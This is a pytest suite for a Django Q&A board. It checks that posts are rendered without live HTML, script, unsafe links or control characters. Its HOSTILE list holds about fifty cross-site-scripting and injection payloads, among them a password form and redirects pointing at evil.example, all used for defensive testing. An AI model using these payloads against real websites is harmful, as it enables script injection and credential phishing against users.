"""No HTML or script from a post ever reaches another reader: hostile payloads are shown as
harmless text, links only as http(s) with rel="nofollow ugc noopener"."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from qa_board.models import Question
from qa_board.text.render import render_plain, render_post

from .factories import AnswerFactory, QuestionFactory, ask_data

THAI_LETTER = re.compile("[\u0e01-\u0e5b]")

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<a href='JaVaScRiPt:alert(1)'>click</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    "javascript:alert(document.cookie)",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<!-- <script>alert(1)</script> -->",
    "<b onmouseover=alert(1)>ตัวหนา</b>",
    "<<script>alert(1)//<</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<p>ย่อหน้าที่ไม่ปิด <i>เอียง",
    "</textarea><script>alert(1)</script>",
    "[คลิกที่นี่](javascript:alert(1))",
    '[ลิงก์](https://example.org" onclick="alert(1))',
    '![รูป](https://evil.example/x.png" onerror="alert(1))',
    "[x](data:text/html,<script>alert(1)</script>)",
    "<https://example.org/<script>>",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/?q=<img src=x onerror=alert(1)>",
    "www.example.org/'onmouseover='alert(1)",
    "ก" * 5000,
    "https://example.org/" + "a" * 3000,
    "ข้อความ\u200bมี\u200cอักขระ\u200dความกว้างศูนย์\ufeff",
    "อีโมจิ 👩‍👩‍👧‍👦 🇹🇭 😀",
    "\u202eปลอมนามสกุล gpj.exe",
    "\u2067ซ้อนทิศทาง\u2069 \u200fRTL\u200e",
    "มีไบต์\x00ว่าง\x00<script>alert(1)</script>",
    "\x01\x02\x1b[31mตัวควบคุม\x7f\x85",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<a href=https://example.org target=_blank>เปิดหน้าต่างใหม่</a>",
]


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.text = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _assert_harmless(html: str):
    parser = _Collect()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in {"p", "br", "a"}, (tag, html[:200])
        if tag == "a":
            assert set(attrs) == {"href", "rel"}, attrs
            assert attrs["href"].startswith(("http://", "https://")), attrs
            assert attrs["rel"] == "nofollow ugc noopener"
            assert not any(ch in attrs["href"] for ch in "<>\"' "), attrs
        else:
            assert attrs == {}, attrs
    for char in "\x00\x01\x1b\x7f\u202e\u2067\u2069":
        assert char not in html


def test_there_are_at_least_forty_hostile_payloads():
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_payload_is_rendered_harmlessly(payload):
    _assert_harmless(render_post(payload))
    _assert_harmless(render_post(payload, mask=False))


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_title_has_no_control_characters_left(payload):
    plain = render_plain(payload)
    assert not any(char in plain for char in "\x00\x01\x1b\u202e\u2067")


def test_the_script_tag_is_shown_as_text_the_reader_can_see():
    html = render_post("<script>alert(1)</script>")
    assert html == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_a_web_address_becomes_a_nofollow_link_and_trailing_punctuation_stays_text():
    html = render_post("ดูที่ https://example.org/page.")
    assert '<a href="https://example.org/page" rel="nofollow ugc noopener">' in html
    assert html.endswith("</a>.</p>")


def test_www_addresses_are_linked_over_https():
    assert 'href="https://www.example.org"' in render_post("ที่ www.example.org นะ")


def test_line_breaks_and_paragraphs_are_kept():
    assert render_post("บรรทัดหนึ่ง\nบรรทัดสอง\n\nย่อหน้าใหม่") == ("<p>บรรทัดหนึ่ง<br>บรรทัดสอง</p><p>ย่อหน้าใหม่</p>")


def test_emoji_and_zero_width_joiners_are_kept():
    assert "👩\u200d👩\u200d👧\u200d👦" in render_post("อีโมจิ 👩‍👩‍👧‍👦")


def test_a_long_link_is_shortened_on_screen_but_not_in_its_address():
    url = "https://example.org/" + "a" * 300
    html = render_post(url)
    assert f'href="{url}"' in html and "…</a>" in html


@pytest.mark.django_db
def test_a_posted_script_and_event_attribute_reach_the_thread_page_only_as_text(client):
    question = QuestionFactory(
        title="<img src=x onerror=alert(1)>หัวข้อ",
        body="<script>alert(1)</script> <b onmouseover=alert(2)>x</b>",
    )
    AnswerFactory(question=question, body='<a href="javascript:alert(3)">คลิก</a>')
    html = client.get(reverse("qa_board:question-detail", kwargs={"pk": question.pk})).content.decode()
    assert "<script>alert" not in html and "<img src=x" not in html and "<b onmouseover" not in html
    assert '<a href="javascript' not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


@pytest.mark.django_db
def test_a_nul_byte_in_a_question_is_refused_in_thai_and_the_text_comes_back(client):
    response = client.post(reverse("qa_board:ask"), ask_data(body="มีไบต์\x00ว่างอยู่ในคำถามนี้"))
    assert response.status_code == 200 and Question.objects.count() == 0
    html = response.content.decode()
    assert "ขอแบบฟอร์มรายงานศักยภาพตำบล" in html  # the title typed is still in the form
    assert response.context["form"].errors["body"]
    assert all(THAI_LETTER.search(message) for message in response.context["form"].errors["body"])


@pytest.mark.django_db
def test_other_control_characters_are_dropped_and_the_question_kept(client):
    client.post(reverse("qa_board:ask"), ask_data(title="หัวข้อ\u202eกลับด้าน", body="ข้อความ\x07มีเสียงกริ่ง\x1bอยู่"))
    question = Question.objects.get()
    assert (question.title, question.body) == ("หัวข้อกลับด้าน", "ข้อความมีเสียงกริ่งอยู่")
